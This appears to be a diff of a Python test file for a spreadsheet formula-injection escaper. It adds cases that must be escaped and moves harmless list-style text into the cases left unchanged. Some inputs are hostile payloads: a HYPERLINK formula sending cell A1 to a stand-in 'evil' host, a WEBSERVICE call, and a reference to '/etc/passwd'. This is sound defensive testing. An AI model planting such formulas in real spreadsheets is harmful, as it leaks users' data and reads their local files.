@@ -123,6 +123,19 @@ def test_a_time_that_is_missing_is_an_empty_cell(tmp_path: Path) -> None:
             '-"x"&A1',
             "+44 20 7946 0000",
         ),
+        *('- HYPERLINK ("http://evil/?"&A1,"x")', '- WEBSERVICE ("http://e")', "- A1+B1"),
+        *("+ [x.xls]S!A1", "+ 'file:///etc/passwd'#$passwd.A1", "- 'a b'.A1", "- Sheet1.A1"),
+        *(
+            "- a $B$2",
+            "- a1",
+            "- sum of r1c1",
+            "- A:A",
+            "- \uff33\uff35\uff2d\uff08\uff21\uff11\uff09",
+            "- a{1}",
+            "- x^2",
+            "- a\n@b",
+        ),
+        *("- Tickets (from £12)", "- 40 = the number of shops", "- A | B", "- Victory at last!"),
     ],
 )
 def test_what_a_spreadsheet_would_run_has_an_apostrophe(cell: str) -> None:
@@ -141,8 +154,14 @@ def test_what_a_spreadsheet_would_run_has_an_apostrophe(cell: str) -> None:
             "-3%",
             "- 5",
         ),
-        *("-1e-05", "-", "+", " - an item", "-\xa0an item", "- Victory at last!", "- A | B", "– x"),
-        *("- Tickets (from £12)", "- 40 = the number of shops", "－ ein Punkt", "* x", "-\twords"),
+        *("-1e-05", "-", "+", " - an item", "-\xa0an item", "– x"),
+        *("- Ann Lee, 34, the city's mayor; 5% more", "- “No,” she said: at 8:30 a.m.", "- a\tb"),
+        *(
+            "- The 1990s’ well-known COVID-19 rules, 2024-25…",
+            "- \u0939\u093f\u0928\u094d\u0926\u0940",
+            "- 5km from St. Ives - by bus?",
+        ),
+        *("－ ein Punkt", "* x", "-\twords"),
         *("'=1", "x=1", "", " ", "“=1”", "1-2", "- e-mail: news@post.example", "- a\n- b"),
     ],
 )
